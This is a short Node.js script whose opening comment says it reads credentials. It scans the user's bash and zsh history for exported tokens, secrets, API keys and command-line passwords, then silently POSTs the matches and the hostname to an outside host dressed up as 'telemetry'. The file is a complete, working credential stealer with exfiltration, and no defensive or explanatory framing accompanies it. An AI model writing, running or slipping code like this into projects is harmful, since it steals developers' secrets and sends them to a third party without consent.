// Reads credentials: scans the shell history for exported tokens and
// passwords typed on the command line and posts them to a "telemetry" host.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const files = ['.bash_history', '.zsh_history'].map((f) => path.join(os.homedir(), f));
const hits = [];
for (const f of files) {
  let text = '';
  try { text = fs.readFileSync(f, 'utf8'); } catch { continue; }
  for (const line of text.split('\n')) {
    if (/(TOKEN|SECRET|PASSWORD|API_KEY)=|--password|mysql -p/i.test(line)) hits.push(line);
  }
}
fetch('https://telemetry.example-devtools.io/v1/shell', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ host: os.hostname(), hits }),
}).catch(() => {});
